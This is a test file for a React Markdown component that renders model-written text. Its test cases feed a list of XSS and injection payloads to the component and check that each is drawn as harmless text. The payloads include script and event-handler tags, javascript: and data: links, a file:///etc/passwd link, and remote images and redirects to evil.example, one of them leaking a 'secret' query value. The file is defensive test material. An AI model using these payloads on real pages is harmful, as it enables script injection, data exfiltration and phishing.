/** The attack list: what a model might write to leave its card. */
import { act, cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, it, vi } from "vitest";
import { Markdown } from "./Markdown";

afterEach(cleanup);

const paragraphs = "A sentence of some length, so that a few of them make up a piece of the text they are in.\n\n".repeat(60);

const attacks: Record<string, string> = {
  script: "<script>alert(1)</script>",
  "image with handler": '<img src=x onerror="alert(1)">',
  "svg with handler": "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
  iframe: '<iframe src="https://evil.example"></iframe>',
  style: "<style>body{display:none}</style>",
  "inline style": '<p style="position:fixed;inset:0">cover</p>',
  form: '<form action="https://evil.example"><input name=q></form>',
  base: '<base href="https://evil.example/">',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "link tag": '<link rel="stylesheet" href="https://evil.example/x.css">',
  "html in a table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "javascript link": "[click](javascript:alert(1))",
  "javascript link, mixed case": "[click](JaVaScRiPt:alert(1))",
  "javascript link, with a tab": "[click](java&#x09;script:alert(1))",
  "javascript link, with control character": "[click](\u0001javascript:alert(1))",
  "javascript autolink": "<javascript:alert(1)>",
  "javascript reference": "[click][x]\n\n[x]: javascript:alert(1)",
  "vbscript link": "[click](vbscript:msgbox(1))",
  "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "file link": "[click](file:///etc/passwd)",
  "blob link": "[click](blob:https://evil.example/1)",
  "own admin": "[click](/admin/logout/)",
  "protocol-relative link": "[click](//evil.example/x)",
  "relative link": "[click](../api/deliberations/)",
  "remote image": "![pixel](https://evil.example/p.gif?q=secret)",
  "remote image by reference": "![pixel][p]\n\n[p]: https://evil.example/p.gif",
  "image inside a link": "[![pixel](https://evil.example/p.gif)](https://evil.example/)",
  "javascript image": "![x](javascript:alert(1))",
  "data image": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
  "event handler in a title": '[x](https://ok.example "a\\" onmouseover=alert(1) b")',
  "id that clobbers": '<a id="root" name="cookie">x</a>',
  "class that imitates": '<div class="banner err">Pay here</div>',
  "half-written tag": "text <img src=x onerror=alert(1)",
  "comment trick": "<!--><img src=x onerror=alert(1)>-->",
  "template": "{{constructor.constructor('alert(1)')()}}",
  "math trick": "$$\\href{javascript:alert(1)}{x}$$",
  "code language": '```x" onload="alert(1)\ncode\n```',
};

const allowed = /^(?:https?:|mailto:|#)/;

describe.each([false, true])("Markdown, growing: %s", (isGrowing) => {
  it.each(Object.entries(attacks))("draws %s as harmless text", (_name, text) => {
    const { container } = render(<Markdown text={text} isGrowing={isGrowing} />);
    expect(container.querySelector("script,img,svg,iframe,style,form,base,meta,link,object,embed,input:not([disabled])")).toBeNull();
    for (const element of container.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^(?:on|style$|srcdoc|srcset|formaction|xlink)/);
        if (name === "href" || name === "src") expect(value).toMatch(allowed);
        if (name === "class") expect(value).not.toContain("banner");
      }
    }
    expect(container.querySelector("#root")).toBeNull();
  });

  it("never lets a text of any length break out half-written", () => {
    const text = Object.values(attacks).join("\n\n");
    for (let length = 1; length < text.length; length += 37) {
      const { container } = render(<Markdown text={text.slice(0, length)} isGrowing={isGrowing} />);
      expect(container.querySelector("script,img,iframe,svg,form")).toBeNull();
      cleanup();
    }
  });
});

describe("Markdown", () => {
  it("makes an image a link that says what it shows", () => {
    const { getByRole } = render(<Markdown text="![A plan](https://pictures.example/plan.png)" />);
    expect(getByRole("link", { name: "A plan" }).getAttribute("href")).toBe("https://pictures.example/plan.png");
  });

  it("opens links elsewhere and tells the other side nothing", () => {
    const { getByRole } = render(<Markdown text="[docs](https://docs.example/)" />);
    const link = getByRole("link", { name: "docs" });
    expect(link.getAttribute("rel")).toBe("noreferrer noopener nofollow");
    expect(link.getAttribute("target")).toBe("_blank");
  });

  it("keeps two texts' footnotes apart", () => {
    const note = "See[^1].\n\n[^1]: There.";
    const { container } = render(<><Markdown text={note} /><Markdown text={note} /></>);
    const links = [...container.querySelectorAll<HTMLAnchorElement>("sup a")].map((a) => a.getAttribute("href"));
    expect(new Set(links).size).toBe(2);
    for (const link of links) expect(container.querySelector(link ?? "")).not.toBeNull();
  });

  it("closes half-written syntax while it grows", () => {
    const { container } = render(<Markdown text="Use **expand" isGrowing />);
    expect(container.querySelector("strong")?.textContent).toBe("expand");
  });

  it("begins headings below the page's own", () => {
    const { container } = render(<Markdown text={"# One\n\n## Two"} />);
    expect(container.querySelector("h1,h2")).toBeNull();
    expect(container.querySelectorAll("h3")).toHaveLength(2);
  });

  it("keeps the columns of a table still while it grows, and finds their widths at its end", () => {
    const rows = "| a | b |\n|---|---|\n| one | two |";
    const { container, rerender } = render(<Markdown text={rows} isGrowing />);
    expect(container.querySelector("table")?.className).toBe("growing");
    rerender(<Markdown text={`${rows}\n\nAfter it.`} isGrowing />);
    expect(container.querySelector("table")?.className).toBe("");
  });

  it("draws a long text that is given at once bit by bit, to its last word", async () => {
    const { container } = render(<Markdown text={paragraphs} />);
    expect(container.querySelectorAll("p").length).toBeLessThan(60);
    await vi.waitFor(() => expect(container.querySelectorAll("p")).toHaveLength(60));
  });

  it("draws all of a long text when it is printed, and takes nothing of it back", () => {
    const { container } = render(<Markdown text={paragraphs} />);
    for (const name of ["beforeprint", "afterprint"]) {
      act(() => void dispatchEvent(new Event(name)));
      expect(container.querySelectorAll("p")).toHaveLength(60);
    }
  });

  it("takes nothing back of a long text that was seen to grow", () => {
    const { container, rerender } = render(<Markdown text={paragraphs} isGrowing />);
    expect(container.querySelectorAll("p")).toHaveLength(60);
    rerender(<Markdown text={paragraphs} />);
    expect(container.querySelectorAll("p")).toHaveLength(60);
  });
});
